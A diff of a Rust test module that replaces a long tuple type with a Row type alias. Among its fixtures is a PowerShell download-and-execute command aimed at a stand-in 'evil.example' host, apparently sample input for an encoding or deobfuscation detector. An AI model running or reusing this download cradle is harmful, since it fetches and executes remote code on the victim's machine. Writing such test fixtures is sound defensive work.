@@ -234,7 +234,8 @@ mod tests {
         let script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
         let russian = "Привет, как дела сегодня?";
         let chinese = "恶意软件 分析报告 v1.0 第一部分";
-        let rows: [(&str, Vec<u8>, Option<(&str, Encoding)>); 15] = [
+        type Row<'a> = (&'a str, Vec<u8>, Option<(&'a str, Encoding)>);
+        let rows: [Row<'_>; 15] = [
             ("utf-8", script.into(), Some((script, Encoding::Utf8))),
             (
                 "PowerShell's -enc",
